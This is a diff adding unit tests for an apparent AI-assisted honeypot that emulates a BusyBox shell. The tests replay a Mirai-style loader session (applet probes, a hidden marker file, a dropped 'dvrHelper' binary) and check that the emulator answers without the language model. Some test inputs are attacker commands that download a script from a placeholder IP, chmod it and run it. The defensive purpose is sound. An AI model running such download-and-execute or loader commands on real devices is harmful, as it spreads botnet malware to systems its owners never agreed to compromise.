@@ -0,0 +1,154 @@
+# python
+"""
+tests/test_busybox_loader.py
+Unit tests for the BusyBox applet dispatcher and the loader fast path: a
+Mirai-style loader session runs end to end without the LLM.
+"""
+from pathlib import Path
+import asyncio
+import json
+
+from autopot.host_profile import build_profile
+from autopot.loader_probes import LoaderState, elf_image
+from autopot.router import Router
+from autopot.session import Session, iso_ts
+
+REPO_ROOT = Path(__file__).resolve().parents[1]
+UNAME = (REPO_ROOT / "scenarios" / "default" / "txtcmds" / "uname.txt").read_text()
+
+
+class RecordingLLMClient:
+    def __init__(self, outputs=None):
+        self.outputs = outputs or {}
+        self.calls = []
+
+    def simulate_command(self, command, fs, bash_history, *, model=None, base_fs=None):
+        self.calls.append(command)
+        return {"stdout": self.outputs.get(command, ""), "stderr": "", "exit_code": 0}
+
+
+def _make_session(tmp_path: Path) -> Session:
+    session = Session(
+        session_id="test-session",
+        remote_ip="203.0.113.5",
+        remote_port=12345,
+        started_ts=iso_ts(),
+        tty_path=str(tmp_path / "tty.log"),
+        _events_file=str(tmp_path / "events.jsonl"),
+    )
+    session.set_scenario("default")
+    return session
+
+
+def _dispatch(router: Router, session: Session, cmd: str) -> str:
+    return asyncio.run(router.dispatch(session, cmd))[0]
+
+
+def test_applets_and_their_errors(tmp_path: Path) -> None:
+    router = Router(scenarios_root=REPO_ROOT / "scenarios", llm_client=RecordingLLMClient())
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "/bin/busybox ECCHI") == "ECCHI: applet not found"
+    assert _dispatch(router, session, "busybox uname -m") == "armv7l"
+    assert _dispatch(router, session, "/bin/busybox cat /proc/mounts").startswith("rootfs / ")
+    assert "tftp\n" in _dispatch(router, session, "busybox --list")
+    wget = _dispatch(router, session, "/bin/busybox wget")
+    assert wget.startswith("BusyBox v1.30.1 (") and "\nUsage: wget " in wget
+    assert _dispatch(router, session, "/bin/busybox lscpu") == "lscpu: applet not found"
+    assert router.llm_client.calls == []
+
+
+def test_mirai_session_needs_no_llm(tmp_path: Path) -> None:
+    client = RecordingLLMClient()
+    router = Router(scenarios_root=REPO_ROOT / "scenarios", llm_client=client)
+    session = _make_session(tmp_path)
+    assert [_dispatch(router, session, line) for line in ("enable", "system", "shell", "sh")] == [
+        "-sh: enable: not found",
+        "-sh: system: not found",
+        "-sh: shell: not found",
+        "",
+    ]
+    assert _dispatch(router, session, "/bin/busybox ECCHI") == "ECCHI: applet not found"
+    assert _dispatch(router, session, "/bin/busybox ps; /bin/busybox ECCHI").endswith(
+        "\nECCHI: applet not found"
+    )
+    marker = (
+        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; "
+        "/bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon"
+    )
+    assert _dispatch(router, session, marker) == "kami/dev"
+    assert _dispatch(router, session, "cd /dev/") == ""
+    assert _dispatch(router, session, "pwd") == "/dev"
+    assert _dispatch(
+        router,
+        session,
+        "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; "
+        "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+    ) == "ECCHI: applet not found"
+    header = _dispatch(router, session, "/bin/busybox cat /bin/echo")
+    assert header.startswith("\x7fELF\x01\x01") and header[18] == "\x28"
+    assert _dispatch(router, session, "/bin/busybox wget; /bin/busybox tftp").count("Usage:") == 2
+    _dispatch(router, session, "echo -ne '\\x7f\\x45\\x4c\\x46' >> dvrHelper")
+    assert session.loader.files["/dev/dvrHelper"] == "\x7fELF"
+    assert _dispatch(router, session, "./dvrHelper telnet.arm; /bin/busybox IHCCE") == (
+        "IHCCE: applet not found"
+    )
+    assert _dispatch(router, session, "./gone") == "-sh: ./gone: not found"
+    assert _dispatch(router, session, "cat /home/user/nope").startswith("cat: ")
+    assert client.calls == []
+
+    events = [json.loads(e) for e in (tmp_path / "events.jsonl").read_text().splitlines()]
+    stages = [e["payload"]["stage"] for e in events if e["event"] == "loader.stage"]
+    assert stages == ["shell", "probe", "recon", "drop", "exec"]
+
+
+def test_loader_state_and_elf_headers() -> None:
+    profile = build_profile("default", UNAME)
+    state = LoaderState(profile)
+    assert state.scratch_path("/home/user", "x") is None
+    assert state.scratch_path("/dev", "../tmp/x") == "/tmp/x"
+    assert state.write("/tmp", "x", append=False).endswith("Is a directory")
+    assert state.advance("drop") == "drop" and state.advance("shell") is None
+
+    mips = build_profile("m", "Linux r 2.6.36 #1 Tue Nov 2 10:00:00 CST 2021 mips GNU/Linux")
+    mipsel = build_profile("m", "Linux r 2.6.36 #1 Tue Nov 2 10:00:00 CST 2021 mipsel GNU/Linux")
+    assert elf_image(mips)[5:6] == "\x02" and elf_image(mips)[18:20] == "\x00\x08"
+    assert elf_image(mipsel)[5:6] == "\x01" and elf_image(mipsel)[18:20] == "\x08\x00"
+
+
+def test_downloads_into_scratch_dirs_can_run(tmp_path: Path) -> None:
+    client = RecordingLLMClient(
+        {
+            "wget http://198.51.100.7/x.sh": "'x.sh' saved [120/120]",
+            "wget http://198.51.100.7/m -O /tmp/m": "m    100% |****| 120  0:00:00 ETA",
+        }
+    )
+    router = Router(scenarios_root=REPO_ROOT / "scenarios", llm_client=client)
+    session = _make_session(tmp_path)
+    out = _dispatch(
+        router, session, "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; ./x.sh"
+    )
+    assert out == "'x.sh' saved [120/120]"
+    out = _dispatch(
+        router, session, "wget http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"
+    )
+    assert out.startswith("m    100%")
+    assert "/tmp/x.sh" in session.loader.executable and "/tmp/m" in session.loader.executable
+    assert _dispatch(router, session, "ls") == "m  x.sh"
+    assert len(client.calls) == 2
+
+
+def test_cd_and_ls_in_scratch_dirs(tmp_path: Path) -> None:
+    client = RecordingLLMClient({"ls": "null  pts  shm  tty"})
+    router = Router(scenarios_root=REPO_ROOT / "scenarios", llm_client=client)
+    session = _make_session(tmp_path)
+    assert _dispatch(router, session, "cd /tmp/nope/deeper") == (
+        "-sh: cd: can't cd to /tmp/nope/deeper"
+    )
+    assert _dispatch(router, session, "pwd") == "/home/user"
+    assert _dispatch(router, session, "cd /tmp; ls /tmp/nope") == (
+        "ls: /tmp/nope: No such file or directory"
+    )
+    assert _dispatch(router, session, "ls") == ""
+    # /dev listings are simulated
+    assert _dispatch(router, session, "cd /dev; ls") == "null  pts  shm  tty"
+    assert client.calls == ["ls"]